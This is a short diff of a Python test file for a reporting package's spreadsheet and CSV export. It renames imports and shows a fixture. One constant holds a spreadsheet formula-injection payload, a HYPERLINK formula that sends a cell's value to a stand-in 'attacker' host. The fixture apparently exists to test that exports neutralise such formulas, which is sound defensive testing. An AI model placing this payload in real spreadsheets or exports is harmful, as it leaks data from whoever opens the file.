@@ -7,9 +7,9 @@ import io
 import zipfile
 
 import pytest
-from reporting.spreadsheet import neutral
-from reporting.views import csv_text, rows
-from reporting.xlsx import workbook
+from uponyaji_reporting.spreadsheet import neutral
+from uponyaji_reporting.views import csv_text, rows
+from uponyaji_reporting.xlsx import workbook
 
 EVIL = '=HYPERLINK("http://attacker/?leak="&A1,"Click")'  # no dot: labels split at dots
 BOARD = {"by_county": {EVIL: 7, "047": 12}, "cases": {"open": -3}}
